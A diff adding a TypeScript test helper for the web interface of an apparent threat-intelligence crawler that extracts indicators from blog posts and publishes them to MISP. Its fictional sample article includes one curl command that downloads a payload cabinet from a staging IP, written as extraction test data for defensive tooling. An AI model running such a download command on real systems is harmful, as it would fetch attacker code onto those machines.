@@ -1,0 +1,293 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Article, CrawlRequest, FeedHealth, Indicator } from '../../../src/domain.ts';
+import { Permanent } from '../../../src/errors.ts';
+import { urlKey } from '../../../src/net/canonical-url.ts';
+import { submit } from '../../../src/pipeline/submit.ts';
+import { openSqlite } from '../../../src/queue/index.ts';
+import { PRIORITY, type Store } from '../../../src/queue/ports.ts';
+import {
+  type AuditEntry,
+  createWeb,
+  type FeedView,
+  type Listening,
+  type ListenOptions,
+  listen,
+  openUsers,
+  type SavedPage,
+  type Users,
+  type WebDeps,
+} from '../../../src/web/index.ts';
+import { makePng } from '../../site/index.ts';
+
+/** The web room on a real store, with the rest of the house played by a few lines each. */
+export interface WebUnderTest {
+  app: ReturnType<typeof createWeb>;
+  deps: WebDeps;
+  store: Store;
+  users: Users;
+  audited: AuditEntry[];
+  /** What deps.saved() answers, by job id. */
+  saved: Map<string, SavedPage>;
+  feeds: FeedView[];
+  folder: string;
+  listen(options?: Partial<ListenOptions>): Promise<Listening>;
+  close(): Promise<void>;
+}
+
+export async function openWeb(
+  changes: Partial<Omit<WebDeps, 'settings'>> & { settings?: Partial<WebDeps['settings']> } = {},
+): Promise<WebUnderTest> {
+  const folder = await mkdtemp(join(tmpdir(), 'web-test-'));
+  const store = await openSqlite({ path: join(folder, 'store.db') });
+  const users = openUsers(join(folder, 'auth.json'));
+  const audited: AuditEntry[] = [];
+  const saved = new Map<string, SavedPage>();
+  const feeds = sampleFeeds();
+  const listeners: Listening[] = [];
+  const { settings, ...others } = changes;
+  const deps: WebDeps = {
+    store,
+    submit: (request, { again }) => submit(request, PRIORITY.manual, { queue: store.queue, ledger: store.ledger, urlKey }, { again }),
+    preview: async (request) => {
+      if (request.url.includes('blocked')) throw new Permanent('HTTP=403', 'The site answers 403 (forbidden): try another user agent.');
+      return { article: sampleArticle({ url: request.url, canonicalUrl: request.url }), evidence: [screenshot()] };
+    },
+    saved: async (id) => saved.get(id),
+    feeds: {
+      list: async () => feeds,
+      setEnabled: async (url, enabled) => {
+        for (const feed of feeds) if (feed.url === url) feed.enabled = enabled;
+      },
+      add: async (feed) => {
+        feeds.push({ ...feed, enabled: true });
+      },
+      discover: async (site) => [
+        {
+          url: new URL('/feed.xml', site).href,
+          title: 'Harbour Labs',
+          entries: [{ url: new URL('/a', site).href, title: 'First entry', published: '2026-11-20T08:00:00Z' }],
+        },
+      ],
+      pollNow: async () => ({ ok: true, message: '12 entries, 1 new' }),
+    },
+    publisher: {
+      kind: 'misp',
+      mispUrl: 'https://misp.example',
+      infoPrefix: 'Scraper: ',
+      tags: ['misp:tool="misp-crawler"', 'osint:source-type="blog-post"', 'tlp:clear', 'workflow:state="incomplete"'],
+      ping: async () => ({ ok: true, message: 'Version 2.5.1, key of user crawler.' }),
+    },
+    feedFolder: join(folder, 'feed'),
+    users,
+    audit: async (entry) => {
+      audited.push(entry);
+    },
+    log: { info: () => {}, warn: () => {}, error: (...line: unknown[]) => console.error(line) },
+    metrics: async () => '# HELP up 1 while it runs\nup 1\n',
+    ready: async () => ({
+      ok: true,
+      checks: [
+        { name: 'queue', ok: true, message: 'SQLite file data/store.db (3.1 MB)' },
+        { name: 'browser', ok: true, message: 'Chromium 142 at /usr/bin/chromium' },
+      ],
+    }),
+    ...others,
+    settings: {
+      host: '127.0.0.1',
+      basePath: '',
+      publicHosts: [],
+      trustedProxies: [],
+      sessionMs: 3_600_000,
+      uploadBytes: 2 * 1024 ** 2,
+      requestsPerMinute: 100_000,
+      ...settings,
+    },
+  };
+  const app = createWeb(deps);
+  return {
+    app,
+    deps,
+    store,
+    users,
+    audited,
+    saved,
+    feeds,
+    folder,
+    listen: async (options = {}) => {
+      const listening = await listen(app, { host: '127.0.0.1', port: 0, sso: false, users, log: deps.log, requestMs: 30_000, ...options });
+      listeners.push(listening);
+      return listening;
+    },
+    close: async () => {
+      for (const listening of listeners) await listening.close();
+      await store.close();
+      await rm(folder, { recursive: true, force: true });
+    },
+  };
+}
+
+const screenshot = (): SavedPage['evidence'][number] => ({
+  kind: 'screenshot',
+  fileName: 'screenshot.png',
+  contentType: 'image/png',
+  bytes: new Uint8Array(makePng(800, 600)),
+});
+
+/** An article with one value of each verdict, in prose, a table and code. */
+export function sampleArticle(changes: Partial<Article> = {}): Article {
+  const markdown = `Since September a group has used a loader that hides among printer drivers. It talks to portside-metrics[.]com and keeps 45.142.213[.]67 for staging.
+
+## Files
+
+| File name | SHA-256 |
+| --- | --- |
+| prnmon64.dll | 6f1ed002ab5595859014ebf0951522d9a1bd1b1e6ccf6b1b6bc9c8f6e1a4d2b7 |
+
+\`\`\`
+curl http://45.142.213.67/drv/setup.cab
+\`\`\`
+
+- Patch CVE-2023-34362 first.
+- See [the vendor's advice](https://vendor.example/advice), and ![a diagram](https://vendor.example/d.png).
+`;
+  const value = (type: Indicator['type'], raw: string, rest: Partial<Indicator>): Indicator => ({
+    type,
+    value: raw.replaceAll('[.]', '.'),
+    defanged: raw.includes('[.]'),
+    verdict: 'indicator',
+    toIds: true,
+    reason: 'defanged in prose',
+    context: { kind: 'prose', snippet: `… ${raw} …` },
+    occurrences: [{ start: markdown.indexOf(raw), end: markdown.indexOf(raw) + raw.length, raw, code: false, target: false }],
+    ...rest,
+  });
+  return {
+    url: 'https://blog.example.com/cinder-wharf',
+    canonicalUrl: 'https://blog.example.com/cinder-wharf',
+    title: 'Operation Cinder Wharf',
+    author: 'Mara Lindqvist',
+    published: '2026-11-20T08:30:00Z',
+    markdown,
+    text: markdown,
+    contentHash: '0'.repeat(64),
+    indicators: [
+      value('domain', 'portside-metrics[.]com', {}),
+      value('ipv4', '45.142.213[.]67', {}),
+      value('sha256', '6f1ed002ab5595859014ebf0951522d9a1bd1b1e6ccf6b1b6bc9c8f6e1a4d2b7', {
+        reason: 'in a table of hashes',
+        context: { kind: 'table', heading: 'Files', column: 'SHA-256', row: ['prnmon64.dll', '6f1e…'] },
+      }),
+      value('cve', 'CVE-2023-34362', {
+        verdict: 'context',
+        toIds: false,
+        reason: 'vulnerability',
+        context: { kind: 'list', heading: 'Files' },
+      }),
+      value('filename', 'prnmon64.dll', {
+        verdict: 'junk',
+        toIds: false,
+        reason: 'a file name alone',
+        context: { kind: 'table', heading: 'Files' },
+      }),
+    ],
+    figures: [],
+    via: 'readability',
+    notes: ['Removed a newsletter box.', 'Kept a table that readability had dropped.'],
+    ...changes,
+  };
+}
+
+export function manualRequest(url: string, changes: Partial<CrawlRequest> = {}): CrawlRequest {
+  return { url, source: { kind: 'manual', title: 'Manual', url: 'Manual', tags: [] }, ...changes };
+}
+
+function sampleFeeds(): FeedView[] {
+  const now = Date.now();
+  const health = (url: string, changes: Partial<FeedHealth> = {}): FeedHealth => ({
+    url,
+    failures: 0,
+    lastPollAt: now - 600_000,
+    lastSuccessAt: now - 600_000,
+    nextPollAt: now + 3_000_000,
+    entries: 20,
+    newEntries: 1,
+    ...changes,
+  });
+  const feed = (title: string, url: string, changes: Partial<FeedHealth> = {}): FeedView => ({
+    title,
+    url,
+    tags: [],
+    enabled: true,
+    health: health(url, changes),
+  });
+  return [
+    feed('Harbour Labs', 'https://blog.example.com/feed.xml'),
+    { ...feed('Dockside reversing', 'https://dockside.example/rss'), tags: ['source:reversing'] },
+    feed('Old lighthouse', 'https://lighthouse.example/atom.xml', {
+      failures: 5,
+      failingSince: now - 90_000_000,
+      lastError: 'The server answers 410 (gone): remove the feed, or find its new address.',
+    }),
+    { title: 'Quiet bay', url: 'https://quiet.example/feed.json', tags: [], enabled: false },
+  ];
+}
+
+/** Jobs in every state, with saved article where they are done; returns their ids by state. */
+export async function fillStore(web: WebUnderTest): Promise<Record<'done' | 'failed' | 'waiting' | 'active' | 'delayed', string>> {
+  const { queue, ledger } = web.store;
+  const feed = { kind: 'feed', title: 'Harbour Labs', url: 'https://blog.example.com/feed.xml', tags: ['source:harbour'] } as const;
+  const add = async (path: string, title: string, source: CrawlRequest['source'] = { ...feed, tags: [...feed.tags] }) => {
+    const { job } = await queue.add({
+      key: `blog.example.com${path}`,
+      request: { url: `https://blog.example.com${path}`, source, title },
+      priority: PRIORITY.feed,
+    });
+    return job.id;
+  };
+  const lease = async (lane: 'crawl' | 'publish') => {
+    const taken = await queue.take(lane, 'test', 3_600_000);
+    if (!taken) throw new Error(`nothing to take in ${lane}`);
+    return taken;
+  };
+  const done = await add('/cinder-wharf', 'Operation Cinder Wharf: a loader that hides among printer drivers');
+  await queue.advance(await lease('crawl'), { ms: 2310 });
+  await queue.finish(
+    await lease('publish'),
+    {
+      status: 'created',
+      message: 'The event was created with 3 indicators.',
+      title: 'Operation Cinder Wharf: a loader that hides among printer drivers',
+      eventUuid: '6b1ff0b1-5a0b-5f0e-9d53-5a4f3c2b1a00',
+      eventUrl: 'https://misp.example/events/view/6b1ff0b1-5a0b-5f0e-9d53-5a4f3c2b1a00',
+      indicators: 3,
+      attributes: 8,
+      audit: { added: 1, corrected: 2, removed: 4 },
+    },
+    { ms: 512 },
+  );
+  web.saved.set(done, { article: sampleArticle(), evidence: [screenshot()] });
+  const failed = await add('/members/briefing', 'Members only: briefing of November');
+  await queue.fail(await lease('crawl'), {
+    code: 'HTTP=403',
+    message: 'The site answers 403 (forbidden): retry with another user agent, or hand in the page as HTML.',
+  });
+  const delayed = await add('/slow', 'Grey Petrel has time: one beacon a day');
+  await queue.retry(await lease('crawl'), { code: 'timeout', message: 'The page did not finish loading within 60 s.' }, 3_600_000);
+  const active = await add('/quillrat', 'Quillrat comes by invoice: phishing against freight brokers');
+  await lease('crawl');
+  const waiting = await add('/mothlamp', 'Unpacking Mothlamp, stage by stage');
+  const today = Date.now();
+  for (let back = 0; back < 28; back++) {
+    const day = new Date(today - back * 86_400_000).toISOString().slice(0, 10);
+    const n = (back * 7) % 11;
+    await ledger.count(day, 'Harbour Labs', 'created', n);
+    await ledger.count(day, 'Harbour Labs', 'indicators', n * 9 + (back % 5) * 4);
+    await ledger.count(day, 'Dockside reversing', 'created', back % 3);
+    if (back % 4 === 0) await ledger.count(day, 'Harbour Labs', 'failed', 1);
+    if (back % 4 === 0) await ledger.count(day, 'Harbour Labs', 'failed:HTTP=403', 1);
+    if (back % 9 === 0) await ledger.count(day, 'Dockside reversing', 'failed:timeout', 1);
+  }
+  return { done, failed, waiting, active, delayed };
+}
